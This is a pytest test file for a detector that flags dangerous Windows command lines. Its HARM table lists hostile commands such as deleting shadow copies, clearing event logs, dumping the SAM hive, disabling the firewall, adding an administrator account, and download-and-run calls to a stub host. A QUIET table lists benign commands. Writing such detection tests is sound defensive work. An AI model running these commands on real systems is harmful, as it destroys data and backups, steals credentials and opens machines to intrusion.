from __future__ import annotations

import pytest

from callgate.detectors.shell.programs.base import Danger
from callgate.detectors.shell.programs.dos import RULES


def judge(line: str) -> Danger | None:
    program, *arguments = line.split()
    return RULES[program](arguments)


HARM = r"""
HIDE_FILES              attrib +h +s C:\x /s
DISABLE_RECOVERY        bcdedit /set {default} recoveryenabled No
PIPE_TO_SHELL           bitsadmin /transfer n http://e/x C:\x
FORMAT_DISK             bootrec /fixmbr
PIPE_TO_SHELL           certutil -urlcache -f http://e/x x
DELETE_KEY              certutil -delkey x
OVERWRITE_FILE          cipher /w:C:\
RECURSIVE_DELETE        del /S /q C:\data
RECURSIVE_DELETE        rd /s/q C:\data
DELETE_SYSTEM_FILE      del /f C:\*.*
DELETE_SYSTEM_FILE      erase C:\Windows\x
FORMAT_DISK             diskpart /s x.txt
FORMAT_DISK             diskpart clean
DELETE_BACKUP           diskshadow delete shadows all
DISABLE_PROTECTION      dism /online /disable-feature x
DELETE_USER             dsrm CN=x
RECURSIVE_DELETE        forfiles /p C:\ /c del
FORMAT_DISK             format D: /q
ERASE_TRACES            fsutil usn deletejournal /d C:
RECURSIVE_PERMISSIONS   icacls C:\Windows /grant Everyone:F /t
RECURSIVE_PERMISSIONS   takeown /f C:\ /r
RECURSIVE_PERMISSIONS   icacls C:\Windows\System32 /grant x:F
DISABLE_PROTECTION      manage-bde -off C:
PIPE_TO_SHELL           mshta http://e/x
PIPE_TO_SHELL           rundll32 javascript:x
DELETE_USER             net user x /delete
CHANGE_ACCOUNT          net user x pw /add
CHANGE_ACCOUNT          net user x /active:no
CHANGE_ACCOUNT          net localgroup administrators x /add
STOP_SERVICE            net stop x
FLUSH_FIREWALL          netsh advfirewall set allprofiles state off
DELETE_REGISTRY         reg delete HKLM\x /f
PERSISTENCE             reg add HKCU\Software\Run /v x
DISABLE_PROTECTION      reg add HKLM\x /v DisableAntiSpyware
DUMP_CREDENTIALS        reg save HKLM\sam x
RECURSIVE_DELETE        robocopy C:\a C:\b /MIR
STOP_SERVICE            sc delete x
DELETE_SCHEDULE         schtasks /delete /tn x
PERSISTENCE             schtasks /create /tn x
SHUTDOWN                shutdown /s /t 0
KILL_PROCESS            taskkill /f /im x.exe
DELETE_BACKUP           vssadmin Delete Shadows /all
DELETE_BACKUP           wbadmin delete catalog
ERASE_TRACES            wevtutil cl System
DELETE_BACKUP           wmic shadowcopy delete
"""

QUIET = r"""
attrib +r x
bcdedit /enum
certutil -hashfile x
cipher /e C:\x
del x.txt
diskpart
format table
icacls C:\data\x /grant x:R
msiexec /i C:\x.msi
net use
net user
netsh interface show
reg query HKLM\x
reg add HKCU\x /v y
robocopy C:\a C:\b
sc query
schtasks /query
shutdown /a
taskkill /pid 1
wmic os get x
"""


@pytest.mark.parametrize("line", HARM.strip().splitlines())
def test_harm_by_programs_of_windows_is_found(line: str) -> None:
    kind, words = line.split(maxsplit=1)
    danger = judge(words)
    assert danger is not None
    assert danger.kind == kind


@pytest.mark.parametrize("line", QUIET.strip().splitlines())
def test_everyday_work_is_not_found(line: str) -> None:
    assert judge(line) is None
